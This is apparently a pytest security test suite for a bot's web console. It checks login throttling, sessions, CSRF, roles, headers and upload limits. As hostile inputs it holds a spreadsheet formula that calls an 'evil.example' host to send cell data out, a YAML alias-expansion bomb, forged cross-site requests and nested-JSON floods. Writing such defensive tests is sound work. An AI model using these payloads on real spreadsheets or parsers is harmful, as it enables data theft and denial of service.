"""Accounts, sessions, CSRF, roles and headers, against the real app on loopback."""

from __future__ import annotations

from aiohttp.test_utils import TestClient
from sqlmodel import select

from bot.console.auth import LoginThrottle
from bot.console.security import SESSION_COOKIE
from storage.db import Database
from storage.models import AuditEvent, Escalation, EscalationStatus, WebSession

from .conftest import csrf_of, login
from .seed import add_users, seed_cases


def audit_rows(db: Database, action_prefix: str) -> list[AuditEvent]:
    rows = db.run(lambda s: list(s.exec(select(AuditEvent)).all()), write=False)
    return [r for r in rows if r.action.startswith(action_prefix)]


async def test_first_run_offers_setup_and_no_default_account(client: TestClient, database: Database) -> None:
    resp = await client.get("/login", allow_redirects=False)
    assert resp.status == 302 and resp.headers["Location"] == "/setup"
    page = await (await client.get("/setup")).text()
    token = page.split('name="csrf" value="')[1].split('"')[0]
    weak = await client.post("/setup", data={"username": "root", "password": "short", "password2": "short",
                                             "csrf": token})
    assert weak.status == 400
    ok = await client.post("/setup", data={"username": "root", "password": "a long enough pw",
                                           "password2": "a long enough pw", "csrf": token}, allow_redirects=False)
    assert ok.status == 303
    # once an account exists, set-up is closed
    assert (await client.get("/setup", allow_redirects=False)).headers["Location"] == "/login"


async def test_anonymous_requests_go_to_login(client: TestClient, database: Database) -> None:
    add_users(database, ("admin1", "admin"))
    for path in ("/", "/queue", "/cases/1", "/dialogs", "/campaigns", "/audit", "/dashboard", "/users"):
        resp = await client.get(path, allow_redirects=False)
        assert resp.status == 302, path
        assert resp.headers["Location"] == "/login"
    assert (await client.get("/queue.json")).status == 401
    assert (await client.post("/cases/1/claim")).status == 401


async def test_login_sets_hardened_cookie_and_new_session_id(client: TestClient, database: Database) -> None:
    add_users(database, ("op1", "operator"))
    await login(client, "op1")
    first = client.session.cookie_jar.filter_cookies(client.make_url("/"))[SESSION_COOKIE].value
    await login(client, "op1")
    second = client.session.cookie_jar.filter_cookies(client.make_url("/"))[SESSION_COOKIE].value
    assert first != second
    # only one live session: logging in again ended the old one
    assert len(database.run(lambda s: list(s.exec(select(WebSession)).all()), write=False)) == 1
    page = await client.get("/login")
    token = (await page.text()).split('name="csrf" value="')[1].split('"')[0]
    resp = await client.post("/login", data={"username": "op1", "password": "correct horse battery",
                                             "csrf": token}, allow_redirects=False)
    cookie = resp.headers["Set-Cookie"]
    assert "HttpOnly" in cookie and "SameSite=Strict" in cookie


async def test_wrong_passwords_are_throttled_and_audited(client: TestClient, database: Database) -> None:
    add_users(database, ("op1", "operator"))
    page = await (await client.get("/login")).text()
    token = page.split('name="csrf" value="')[1].split('"')[0]
    statuses = []
    for _ in range(4):
        resp = await client.post("/login", data={"username": "op1", "password": "wrong password!",
                                                 "csrf": token})
        statuses.append(resp.status)
    assert statuses == [401, 401, 401, 429]
    # even the right password is refused while throttled
    resp = await client.post("/login", data={"username": "op1", "password": "correct horse battery",
                                             "csrf": token})
    assert resp.status == 429
    assert len(audit_rows(database, "login.failed")) == 3
    assert audit_rows(database, "login.throttled")


async def test_old_session_cookie_fails_after_logout(client: TestClient, database: Database) -> None:
    add_users(database, ("op1", "operator"))
    await login(client, "op1")
    old = client.session.cookie_jar.filter_cookies(client.make_url("/"))[SESSION_COOKIE].value
    token = await csrf_of(client)
    resp = await client.post("/logout", data={"csrf": token}, allow_redirects=False)
    assert resp.status == 303
    client.session.cookie_jar.clear()
    replay = await client.get("/queue", cookies={SESSION_COOKIE: old}, allow_redirects=False)
    assert replay.status == 302 and replay.headers["Location"] == "/login"


async def test_disabling_an_account_ends_its_sessions(client: TestClient, database: Database) -> None:
    ids = add_users(database, ("op1", "operator"))
    await login(client, "op1")
    assert (await client.get("/queue", allow_redirects=False)).status == 200
    from bot.console import auth

    database.run(lambda s: auth.set_disabled(s, ids["op1"], True))
    assert (await client.get("/queue", allow_redirects=False)).status == 302


async def test_operator_gets_403_on_admin_pages_with_audit_row(client: TestClient, database: Database) -> None:
    add_users(database, ("op1", "operator"))
    await login(client, "op1")
    for path in ("/dialogs", "/campaigns", "/audit", "/users", "/dialogs/verification.zh-CN"):
        assert (await client.get(path)).status == 403, path
    token = await csrf_of(client)
    resp = await client.post("/dialogs/lint", json={"source": "x"}, headers={"X-CSRF-Token": token})
    assert resp.status == 403
    denied = audit_rows(database, "denied")
    assert {r.target_id for r in denied} >= {"/dialogs", "/campaigns", "/audit", "/users", "/dialogs/lint"}
    assert all(r.actor == "op1" for r in denied)


async def test_operator_gets_403_on_a_case_another_operator_holds(client: TestClient, database: Database) -> None:
    add_users(database, ("op1", "operator"), ("op2", "operator"))
    case_id = seed_cases(database)["cases"][0]
    await login(client, "op1")
    token = await csrf_of(client)
    assert (await client.post(f"/cases/{case_id}/claim", headers={"X-CSRF-Token": token})).status == 200
    await login(client, "op2")
    token = await csrf_of(client)
    claim = await client.post(f"/cases/{case_id}/claim", headers={"X-CSRF-Token": token})
    assert claim.status == 409
    assert (await client.get(f"/cases/{case_id}")).status == 403
    resolve = await client.post(f"/cases/{case_id}/resolve", data={"csrf": token, "action": "close"})
    assert resolve.status == 403
    rows = audit_rows(database, "denied.case")
    assert rows and rows[0].actor == "op2" and rows[0].target_id == str(case_id)
    esc = database.run(lambda s: s.get(Escalation, case_id), write=False)
    assert esc.status == EscalationStatus.CLAIMED


async def test_cross_site_post_without_token_is_refused_and_changes_nothing(
        client: TestClient, database: Database) -> None:
    add_users(database, ("op1", "operator"))
    case_id = seed_cases(database)["cases"][0]
    await login(client, "op1")
    token = await csrf_of(client)
    # no token at all (what a forged cross-site form would send)
    resp = await client.post(f"/cases/{case_id}/claim", headers={"Origin": "https://evil.example"})
    assert resp.status == 403
    # the right token but from another origin
    resp = await client.post(f"/cases/{case_id}/claim",
                             headers={"X-CSRF-Token": token, "Origin": "https://evil.example"})
    assert resp.status == 403
    # a wrong token from our own origin
    resp = await client.post(f"/cases/{case_id}/claim", headers={"X-CSRF-Token": "nope"})
    assert resp.status == 403
    esc = database.run(lambda s: s.get(Escalation, case_id), write=False)
    assert esc.status == EscalationStatus.OPEN and esc.claimed_by is None


async def test_logout_needs_the_token_too(client: TestClient, database: Database) -> None:
    add_users(database, ("op1", "operator"))
    await login(client, "op1")
    assert (await client.post("/logout", allow_redirects=False)).status == 403
    assert (await client.get("/queue", allow_redirects=False)).status == 200


async def test_security_headers_on_pages_and_errors(client: TestClient, database: Database) -> None:
    add_users(database, ("op1", "operator"))
    await login(client, "op1")
    for path in ("/queue", "/login", "/nope", "/audit"):
        resp = await client.get(path, allow_redirects=False)
        h = resp.headers
        assert "frame-ancestors 'none'" in h["Content-Security-Policy"], path
        assert "script-src 'self'" in h["Content-Security-Policy"]
        assert h["X-Content-Type-Options"] == "nosniff"
        assert h["Referrer-Policy"] == "same-origin"
        assert h["Cache-Control"] == "no-store"


async def test_oversized_request_is_refused(client: TestClient, database: Database) -> None:
    add_users(database, ("admin1", "admin"))
    await login(client, "admin1")
    token = await csrf_of(client, "/dialogs")
    big = "a" * (300 * 1024)
    resp = await client.post("/dialogs/lint", json={"source": big}, headers={"X-CSRF-Token": token})
    assert resp.status == 413


async def test_cookies_are_secure_unless_the_loopback_opt_out_is_set(database: Database, tmp_path) -> None:
    from aiohttp.test_utils import TestClient as Client
    from aiohttp.test_utils import TestServer

    from bot.console.app import build_app
    from bot.console.settings import ConsoleSettings

    add_users(database, ("op1", "operator"))
    app = build_app(database, ConsoleSettings(), var_dir=tmp_path)
    async with Client(TestServer(app, host="127.0.0.1")) as c:
        page = await c.get("/login")
        assert "Secure" in page.headers["Set-Cookie"]
        token = (await page.text()).split('name="csrf" value="')[1].split('"')[0]
        resp = await c.post("/login", data={"username": "op1", "password": "correct horse battery", "csrf": token},
                            cookies={"vb_precsrf": token}, allow_redirects=False)
        session_cookie = [v for v in resp.headers.getall("Set-Cookie") if v.startswith("vb_session=")][0]
        assert "Secure" in session_cookie and "HttpOnly" in session_cookie and "SameSite=Strict" in session_cookie
        assert resp.headers["Strict-Transport-Security"].startswith("max-age=")


async def test_releasing_a_case_someone_else_holds_is_refused_and_not_audited_as_a_release(
        client: TestClient, database: Database) -> None:
    add_users(database, ("op1", "operator"), ("op2", "operator"))
    case_id = seed_cases(database)["cases"][0]
    await login(client, "op1")
    token = await csrf_of(client)
    assert (await client.post(f"/cases/{case_id}/claim", headers={"X-CSRF-Token": token})).status == 200
    await login(client, "op2")
    token = await csrf_of(client)
    resp = await client.post(f"/cases/{case_id}/release", data={"csrf": token}, allow_redirects=False)
    assert resp.status == 409
    assert [r for r in audit_rows(database, "case.release") if r.action == "case.release"] == []
    refused = audit_rows(database, "case.release_refused")
    assert [(r.actor, r.target_id) for r in refused] == [("op2", str(case_id))]
    esc = database.run(lambda s: s.get(Escalation, case_id), write=False)
    assert esc.status == EscalationStatus.CLAIMED
    # the holder's own release still works and is audited as one
    await login(client, "op1")
    token = await csrf_of(client)
    resp = await client.post(f"/cases/{case_id}/release", data={"csrf": token}, allow_redirects=False)
    assert resp.status == 303
    assert [r.actor for r in audit_rows(database, "case.release") if r.action == "case.release"] == ["op1"]


async def test_results_download_has_one_bom_and_no_live_formulas(client: TestClient, database: Database) -> None:
    from storage.models import Person

    add_users(database, ("admin1", "admin"))
    camp = seed_cases(database)["campaign"]

    def poison(s) -> None:
        person = s.exec(select(Person).where(Person.campaign_id == camp)).first()
        person.name = '=HYPERLINK("http://evil.example/?d="&C2,"x")'
        s.add(person)

    database.run(poison)
    await login(client, "admin1")
    raw = await (await client.get(f"/campaigns/{camp}/export.csv")).read()
    assert raw.startswith(b"\xef\xbb\xbf") and not raw.startswith(b"\xef\xbb\xbf" * 2)
    text = raw.decode("utf-8-sig")
    assert "'=HYPERLINK(" in text and ',"=HYPERLINK(' not in text and "\n=HYPERLINK(" not in text
    assert "+8613912345678" in text  # phones stay usable


async def test_the_dialog_editor_parses_drafts_off_the_event_loop(client: TestClient, database: Database,
                                                                   monkeypatch) -> None:
    from bot.dialog import script as script_module

    def on_the_loop(*_a, **_k):
        raise AssertionError("a draft was parsed in the web server's process")

    add_users(database, ("admin1", "admin"))
    await login(client, "admin1")
    token = await csrf_of(client, "/dialogs")
    monkeypatch.setattr(script_module, "load_document", on_the_loop)  # the worker process is unaffected
    bomb = "a: &a [l,l,l,l,l,l,l,l,l]\n" + "".join(
        f"{n}: &{n} [{','.join([f'*{p}'] * 9)}]\n" for p, n in zip("abcdefgh", "bcdefghi", strict=True))
    resp = await client.post("/dialogs/lint", json={"source": bomb}, headers={"X-CSRF-Token": token})
    assert resp.status == 200
    body = await resp.json()
    assert body["ok"] is False and "aliases are expanded" in body["errors"][0]["message"]


async def _admin_campaign(client: TestClient, database: Database) -> tuple[str, str]:
    add_users(database, ("admin1", "admin"))
    await login(client, "admin1")
    token = await csrf_of(client, "/campaigns")
    created = await client.post("/campaigns", data={"csrf": token, "name": "hostile"}, allow_redirects=False)
    return created.headers["Location"], token


def _upload(token: str, data: bytes, name: str):
    from aiohttp import FormData

    f = FormData()
    f.add_field("csrf", token)
    f.add_field("file", data, filename=name, content_type="application/octet-stream")
    return f


async def test_hostile_uploads_get_a_short_clean_answer(client: TestClient, database: Database, tmp_path) -> None:
    from robustness.hostile import bomb_xlsx

    base, token = await _admin_campaign(client, database)
    flood = ("name,phone\n" + "p,12345\n" * 400_000).encode()  # ~3 MB of bad rows
    resp = await client.post(f"{base}/upload", data=_upload(token, flood, "people.csv"))
    page = await resp.text()
    assert resp.status == 422 and len(page) < 100_000
    assert page.count("data-row=") == 100 and "checking stopped at row 1001 after 1000 bad rows" in page
    long_cell = ("name,phone\n" + "x" * 200_000 + ",13800138000\n").encode()
    resp = await client.post(f"{base}/upload", data=_upload(token, long_cell, "people.csv"))
    assert resp.status == 422 and "unreadable CSV" in await resp.text()
    bomb = bomb_xlsx(tmp_path / "bomb.xlsx").read_bytes()
    resp = await client.post(f"{base}/upload", data=_upload(token, bomb, "people.xlsx"))
    assert resp.status == 422 and "packed suspiciously" in await resp.text()
    resp = await client.post(f"{base}/upload", data=_upload(token, b"PK\x03\x04junk", "people.xlsx"))
    assert resp.status == 422 and "not a readable .xlsx workbook" in await resp.text()


async def test_malformed_or_oversized_forms_get_400_or_413(client: TestClient, database: Database) -> None:
    base, token = await _admin_campaign(client, database)
    bodies = [("multipart/form-data", b"garbage"),
              ("multipart/form-data; boundary=xx", b"garbage"),
              ("multipart/form-data; boundary=xx", b'--xx\r\nContent-Disposition: form-data; name="a"\r\n\r\nval'),
              ("multipart/form-data; boundary=xx", b"--xx\r\nbroken header\r\n\r\nval\r\n--xx--\r\n")]
    for ctype, body in bodies:
        for headers in ({"Content-Type": ctype}, {"Content-Type": ctype, "X-CSRF-Token": token}):
            resp = await client.post(f"{base}/upload", data=body, headers=headers)
            assert resp.status == 400, (ctype, body, await resp.text())
    huge = _upload(token, b"x" * (6 * 1024 * 1024), "people.csv")  # over [console] max_upload_mb = 5
    assert (await client.post(f"{base}/upload", data=huge)).status == 413


async def test_ids_beyond_the_database_range_are_404_not_500(client: TestClient, database: Database) -> None:
    add_users(database, ("admin1", "admin"))
    await login(client, "admin1")
    token = await csrf_of(client)
    big = "99999999999999999999"
    for path in (f"/cases/{big}", f"/campaigns/{big}", f"/campaigns/{big}/results", f"/campaigns/{big}/export.csv",
                 f"/campaigns/{big}/progress.json", f"/cases/{big}/audio/1", "/cases/1/audio/" + big):
        assert (await client.get(path)).status == 404, path
    for path in (f"/cases/{big}/claim", f"/cases/{big}/release", f"/campaigns/{big}/start",
                 f"/dialogs/versions/{big}/activate", f"/users/{big}/disabled"):
        resp = await client.post(path, headers={"X-CSRF-Token": token})
        assert resp.status == 404, path
    camp = seed_cases(database)["campaign"]
    assert (await client.get(f"/campaigns/{camp}/results?offset={big}")).status == 400
    assert (await client.get(f"/campaigns/{camp}/results?offset=²")).status == 400
    assert (await client.get(f"/dashboard?campaign={big}")).status == 400
    assert (await client.get(f"/cases/{2**31 - 1}")).status == 404  # in range, just absent


async def _login_from(client: TestClient, address: str, username: str, password: str) -> int:
    """One login attempt from another loopback address (its own cookies); the HTTP status."""
    import aiohttp

    connector = aiohttp.TCPConnector(local_addr=(address, 0))
    async with aiohttp.ClientSession(connector=connector, cookie_jar=aiohttp.CookieJar(unsafe=True)) as session:
        page = await (await session.get(client.make_url("/login"))).text()
        token = page.split('name="csrf" value="')[1].split('"')[0]
        resp = await session.post(client.make_url("/login"), allow_redirects=False,
                                  data={"username": username, "password": password, "csrf": token})
        return resp.status


async def test_username_variants_from_many_addresses_share_one_throttle(client: TestClient,
                                                                         database: Database) -> None:
    from .seed import PASSWORD

    add_users(database, ("op1", "operator"))
    variants = [" op1", "op1\t", "OP1", "ｏｐ１", "Op1 ", "op1"]
    statuses = [await _login_from(client, f"127.0.0.{i + 2}", name, "wrong password!")
                for i, name in enumerate(variants)]
    assert statuses == [401, 401, 401, 429, 429, 429]  # max_failures=3 in the test app
    assert await _login_from(client, "127.0.0.20", "op1", PASSWORD) == 429
    assert len(audit_rows(database, "login.failed")) == 3


async def test_one_locked_account_does_not_lock_its_office_and_an_admin_can_unlock_it(
        client: TestClient, database: Database) -> None:
    from .seed import PASSWORD

    ids = add_users(database, ("op1", "operator"), ("op2", "operator"), ("admin1", "admin"))
    office = "127.0.0.5"
    assert [await _login_from(client, office, "op1", "wrong password!") for _ in range(4)] == [401, 401, 401, 429]
    assert await _login_from(client, office, "op2", PASSWORD) == 303  # a colleague behind the same address
    assert await _login_from(client, office, "op1", PASSWORD) == 429
    await login(client, "admin1")
    page = await (await client.get("/users")).text()
    assert f'action="/users/{ids["op1"]}/unlock"' in page and f'action="/users/{ids["op2"]}/unlock"' not in page
    token = await csrf_of(client, "/users")
    resp = await client.post(f"/users/{ids['op1']}/unlock", data={"csrf": token}, allow_redirects=False)
    assert resp.status == 303
    rows = audit_rows(database, "user.unlock")
    assert [(r.actor, r.target_id) for r in rows] == [("admin1", str(ids["op1"]))]
    assert await _login_from(client, office, "op1", PASSWORD) == 303
    op = await login_as_operator_forbidden(client, ids)
    assert op == 403


async def login_as_operator_forbidden(client: TestClient, ids: dict[str, int]) -> int:
    """An operator may not unlock accounts."""
    await login(client, "op2")
    token = await csrf_of(client)
    return (await client.post(f"/users/{ids['op1']}/unlock", data={"csrf": token}, allow_redirects=False)).status


def test_throttle_backs_off_exponentially_per_account() -> None:
    t = LoginThrottle(max_failures=2, lockout=60, max_lockout=300)
    locks = []
    now = 0.0
    for _ in range(5):
        t.failed(" Op1\t", "10.0.0.1", now=now)
        t.failed("ｏｐ１", "10.0.0.2", now=now + 1)
        until = t.locked_until("op1", now=now + 1)
        assert until is not None and t.blocked("OP1", "10.9.9.9", now=until - 0.5)
        locks.append(until - (now + 1))
        now = until + 1
    assert locks == [60, 120, 240, 300, 300]
    assert t.unlock("op1") and not t.blocked("op1", "10.0.0.1", now=now)


def test_throttle_blocks_an_address_only_when_it_sprays() -> None:
    t = LoginThrottle(max_failures=3, lockout=60)
    for i in range(29):  # many names, one address, a minute
        t.failed(f"user{i}", "10.0.0.1", now=i)
    assert not t.blocked("someone-else", "10.0.0.1", now=29)
    t.failed("user29", "10.0.0.1", now=29)
    assert t.blocked("someone-else", "10.0.0.1", now=30)  # 30 = 10 x max_failures within the window
    assert not t.blocked("someone-else", "10.0.0.2", now=30)


async def test_uploads_are_parsed_off_the_event_loop(client: TestClient, database: Database, monkeypatch) -> None:
    from bot.console import people_upload

    def on_the_loop(*_a, **_k):
        raise AssertionError("an upload was parsed in the web server's process")

    base, token = await _admin_campaign(client, database)
    monkeypatch.setattr(people_upload, "parse_people", on_the_loop)  # the worker process is unaffected
    good = "姓名,手机号\n赵六,13912340001\n".encode()
    resp = await client.post(f"{base}/upload", data=_upload(token, good, "people.csv"))
    assert resp.status == 200 and "Imported 1 people" in await resp.text()


async def test_deeply_nested_json_to_the_editor_is_a_400(client: TestClient, database: Database) -> None:
    add_users(database, ("admin1", "admin"))
    await login(client, "admin1")
    token = await csrf_of(client, "/dialogs")
    for path in ("/dialogs/lint", "/dialogs/simulate", "/dialogs/simulate/answer"):
        resp = await client.post(path, data="[" * 100_000, headers={"X-CSRF-Token": token,
                                                                     "Content-Type": "application/json"})
        assert resp.status == 400, path
